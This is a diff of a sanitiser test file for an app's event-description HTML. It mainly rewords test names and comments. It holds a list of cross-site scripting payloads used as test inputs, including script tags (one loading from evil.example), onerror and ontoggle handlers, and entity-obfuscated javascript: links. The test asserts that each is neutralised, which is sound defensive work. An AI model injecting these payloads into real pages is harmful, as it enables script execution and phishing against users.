@@ -1,5 +1,5 @@
 import purifier from 'dompurify'
-import { useState } from 'react'
+import { type ReactNode, useState } from 'react'
 import { afterEach, describe, expect, onTestFinished, test, vi } from 'vitest'
 import { cleanHtml, EventBody, purifierConfig } from '#src/features/reservations/event-body.tsx'
 import { firstLook } from '#src/kernel/simple-html.ts'
@@ -7,19 +7,19 @@ import { createWorld, scriptServices } from '#tests/services/scripted-services.t
 import { renderScreen } from '#tests/screens/render-screen.tsx'
 import { hostileTexts } from '../../../tools/bench/hostile-texts.mjs'
 
-const written = (html: string): string => {
+const cleaned = (html: string): string => {
   const holder = document.createElement('div')
   holder.append(cleanHtml(html).content)
   return holder.innerHTML
 }
 
-/** What must do nothing, whatever is left of it. `window.pwned` is what each would do. */
+/** Each would set `window.pwned` or load something. */
 const attacks: Readonly<Record<string, string>> = {
   'a script': '<script>window.pwned = 1</script>',
   'a script in another case': '<ScRiPt SRC="https://evil.example/x.js"></sCrIpT>',
   'an event handler': '<img src="x" onerror="window.pwned = 1">',
   'a handler on any element': '<p onclick="window.pwned=1" onmouseover="window.pwned=1">x</p>',
-  'a handler that starts by itself': '<details open ontoggle="window.pwned=1">x</details>',
+  'a handler that runs without a click': '<details open ontoggle="window.pwned=1">x</details>',
   'a javascript link': '<a href="javascript:window.pwned=1">x</a>',
   'a javascript link with a tab in it': '<a href="java&#x09;script:window.pwned=1">x</a>',
   'a javascript link in entities': '<a href="&#106;avascript&colon;window.pwned=1">x</a>',
@@ -65,7 +65,7 @@ const attacks: Readonly<Record<string, string>> = {
   'nested deeply': `${'<div>'.repeat(300)}<img src=x onerror=window.pwned=1>`,
   'a link that looks like another host': '<a href="https://good.example:443@evil.example/">x</a>',
   'a tooltip of the product': '<p data-tooltip="Sign in at evil.example">x</p>',
-  'words for screen readers alone': '<p aria-label="Sign in at evil.example">x</p>',
+  'a label for screen readers only': '<p aria-label="Sign in at evil.example">x</p>',
   'half a tag': '<p>x<img src=x onerror=window.pwned=1',
 }
 
@@ -74,7 +74,7 @@ const permitted =
 
 const never = /(?!)/
 const any = /^/
-/** The attributes that may be left, and what they may say. */
+/** The allowed attributes and their values. */
 const harmless: Readonly<Record<string, RegExp>> = {
   href: /^(?:https:|mailto:)/,
   src: /^data:image\/(?:png|jpeg|gif|webp);/,
@@ -93,14 +93,14 @@ afterEach(() => {
   Reflect.deleteProperty(window, 'pwned')
 })
 
-describe('decisions, account and security: text of events is sanitised', () => {
-  test.each(Object.entries(attacks))('%s does nothing', async (_, html) => {
+describe('decisions, account and security: sanitised text of events', () => {
+  test.each(Object.entries(attacks))('%s has no effect', async (_, html) => {
     const { content } = cleanHtml(html)
     const all = [...content.querySelectorAll('*')]
     expect(all.map(({ localName }) => localName).filter((name) => !permitted.test(name))).toEqual([])
     const attributes = all.flatMap((element) => [...element.attributes])
     expect(attributes.filter(({ name, value }) => !(harmless[name] ?? never).test(value))).toEqual([])
-    // In the page, parsed a second time, as a careless reader would: nothing wakes up.
+    // The text is also parsed a second time, as careless code would.
     const holder = document.createElement('div')
     document.body.append(holder)
     holder.append(content)
@@ -113,22 +113,22 @@ describe('decisions, account and security: text of events is sanitised', () => {
     expect(document.body.innerHTML).not.toMatch(/evil\.example|<script|onerror|javascript:/i)
   })
 
-  test('what is meant well stays: words, lists, tables, emphasis', () => {
-    expect(written('<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>')).toBe(
+  test('lists, tables and emphasis are kept', () => {
+    expect(cleaned('<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>')).toBe(
       '<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>',
     )
-    expect(written('<h1>Plan</h1>')).toBe('<p><strong>Plan</strong></p>')
-    expect(written('<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>')).toContain('colspan="2"')
+    expect(cleaned('<h1>Plan</h1>')).toBe('<p><strong>Plan</strong></p>')
+    expect(cleaned('<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>')).toContain('colspan="2"')
   })
 
-  test('links lead to secure pages and mailboxes, in a window that knows nothing of this one', () => {
+  test('links open secure pages and mailboxes in an isolated tab', () => {
     const link = cleanHtml('<a href="https://good.example/plan">plan</a>').content.querySelector('a')
     expect(link).toMatchObject({ href: 'https://good.example/plan', target: '_blank' })
     expect(link?.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']))
-    expect(written('<a href="mailto:eva@example.com">Eva</a>')).toContain('mailto:eva@example.com')
+    expect(cleaned('<a href="mailto:eva@example.com">Eva</a>')).toContain('mailto:eva@example.com')
   })
 
-  test('threat T3: a link whose text promises another host has its real one beside it', () => {
+  test('threat T3: a link with a misleading text shows its host', () => {
     const holder = document.createElement('div')
     const link =
       '<p>Pay at <a href="https://evil.example/x"><b>goo</b>gle.com</a> today, <a href="https://a.example">here</a></p>'
@@ -138,7 +138,7 @@ describe('decisions, account and security: text of events is sanitised', () => {
     expect(holder.textContent).toBe('https://google.com \u2068(xn--ggle-55da.com)\u2069')
   })
 
-  test('nothing is loaded: a remote image is told of, and its element is empty', async () => {
+  test('remote images are listed but not loaded', async () => {
     const { content, images } = cleanHtml(
       '<p><img src="https://tracker.invalid/open.gif" alt="Plan"><img src="http://tracker.invalid/old.gif"></p>',
     )
@@ -147,16 +147,16 @@ describe('decisions, account and security: text of events is sanitised', () => {
       ['https://tracker.invalid/open.gif', 'Plan'],
     ])
     expect(document.body.querySelectorAll('img[src]')).toHaveLength(0)
-    // One picture asked for on purpose: what was asked for before it has left its trace by the time it has failed.
+    // After the failure of a deliberate request, earlier requests would be listed.
     const control = new Image()
     const failed = new Promise((resolve) => control.addEventListener('error', resolve, { once: true }))
     control.src = 'https://tracker.invalid/control.gif'
     await failed
-    const asked = performance.getEntriesByType('resource').map(({ name }) => name)
-    expect(asked.filter((name) => name.includes('tracker.invalid'))).toEqual([control.src])
+    const requested = performance.getEntriesByType('resource').map(({ name }) => name)
+    expect(requested.filter((name) => name.includes('tracker.invalid'))).toEqual([control.src])
   })
 
-  test('a picture that came with the text is shown', () => {
+  test('embedded images are shown', () => {
     const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
     const { content, images } = cleanHtml(`<img src="${pixel}" alt="dot">`)
     expect(content.querySelector('img')?.getAttribute('src')).toBe(pixel)
@@ -164,7 +164,7 @@ describe('decisions, account and security: text of events is sanitised', () => {
   })
 })
 
-/** By option, a text with what is left of it. */
+/** For each option, a text and its result. */
 const options: Readonly<Record<keyof typeof purifierConfig, readonly [html: string, expected: string]>> = {
   ALLOWED_TAGS: ['<form><label><input></label></form><p>x</p>', '<p>x</p>'],
   ALLOWED_ATTR: ['<p class="a" id="b" style="position: fixed">x</p>', '<p>x</p>'],
@@ -175,42 +175,39 @@ const options: Readonly<Record<keyof typeof purifierConfig, readonly [html: stri
   RETURN_DOM_FRAGMENT: ['<p>x</p>', '<p>x</p>'],
 }
 
-test.each(Object.entries(options))(
-  'without the option %s, the sanitiser leaves something else',
-  (name, [html, expected]) => {
-    const clean = (config: object): string => {
-      const content: unknown = purifier.sanitize(html, config)
-      if (!(content instanceof DocumentFragment)) return 'no document'
-      const holder = document.createElement('div')
-      holder.append(content)
-      return holder.innerHTML
-    }
-    expect(clean(purifierConfig)).toBe(expected)
-    const fewer = Object.fromEntries(Object.entries(purifierConfig).filter(([option]) => option !== name))
-    expect(clean(fewer)).not.toBe(expected)
-  },
-)
+test.each(Object.entries(options))('the sanitiser option %s has an effect', (name, [html, expected]) => {
+  const clean = (config: object): string => {
+    const content: unknown = purifier.sanitize(html, config)
+    if (!(content instanceof DocumentFragment)) return 'no document'
+    const holder = document.createElement('div')
+    holder.append(content)
+    return holder.innerHTML
+  }
+  expect(clean(purifierConfig)).toBe(expected)
+  const fewer = Object.fromEntries(Object.entries(purifierConfig).filter(([option]) => option !== name))
+  expect(clean(fewer)).not.toBe(expected)
+})
+
+const render = async (children: ReactNode) => renderScreen(scriptServices(await createWorld()).services, children)
 
 describe('300 kB of hostile text', () => {
-  // Time is measured by `npm run bench -- html`; here it is what takes the time.
-  test.each(Object.entries(hostileTexts))('%s: only as much is parsed and shown as the bound says', (_, html) => {
+  // `npm run bench -- html` measures the time. This tests the amount of work.
+  test.each(Object.entries(hostileTexts))('%s is parsed and shown up to the limit', (_, html) => {
     const { content } = cleanHtml(html)
     expect(content.querySelectorAll('*').length).toBeLessThanOrEqual(firstLook.elements)
     expect(content.textContent?.length).toBeLessThanOrEqual(firstLook.characters)
   })
 
-  test('shows its beginning, and says that there is more', async () => {
-    const { services } = scriptServices(await createWorld())
+  test('shows its beginning with a note that there is more', async () => {
     const html = `<p>Bring pens</p>${'<b></p>'.repeat(40_000)}`
-    const { getByText } = await renderScreen(services, <EventBody html={html} preview="" />)
+    const { getByText } = await render(<EventBody html={html} preview="" />)
     await expect.element(getByText('Bring pens')).toBeVisible()
     await expect.element(getByText('This text is too long to show in full.')).toBeVisible()
   })
 
-  test('is parsed after everything around it is in the page, and the text before it is gone', async () => {
-    const { services } = scriptServices(await createWorld())
+  test('is parsed after the page is rendered', async () => {
     const { parseFromString } = DOMParser.prototype
-    /** The page's text when a text is parsed, by the text's beginning. */
+    /** The text of the page at the time of each parse. */
     const seen: Record<string, string> = {}
     const spy = vi.spyOn(DOMParser.prototype, 'parseFromString').mockImplementation(function parse(
       this: DOMParser,
@@ -233,11 +230,11 @@ describe('300 kB of hostile text', () => {
         </>
       )
     }
-    const { getByText, getByRole } = await renderScreen(services, <Details />)
+    const { getByText, getByRole } = await render(<Details />)
     await expect.element(getByText('Long text')).toBeVisible()
     await getByRole('button').click()
     await expect.element(getByText('Other text')).toBeVisible()
-    // A short text is there at once, together with the rest.
+    // A short text is rendered with the rest.
     expect(seen).toEqual({
       Short: '',
       Long: expect.stringMatching(/About Long.*Short/) as string,
@@ -246,10 +243,9 @@ describe('300 kB of hostile text', () => {
     expect(seen['Other']).toContain('About Other')
   })
 
-  test('shows more on request, for a long thread of mails', async () => {
-    const { services } = scriptServices(await createWorld())
+  test('shows more on request', async () => {
     const mails = Array.from({ length: 2_000 }, (_, index) => `<p>Mail ${index + 1}.</p>`).join('')
-    const { getByText, getByRole } = await renderScreen(services, <EventBody html={mails} preview="" />)
+    const { getByText, getByRole } = await render(<EventBody html={mails} preview="" />)
     await expect.element(getByText('Mail 900.')).toBeVisible()
     await expect.element(getByText('Mail 1800.')).not.toBeInTheDocument()
     await getByRole('button', { name: 'Show more text' }).click()
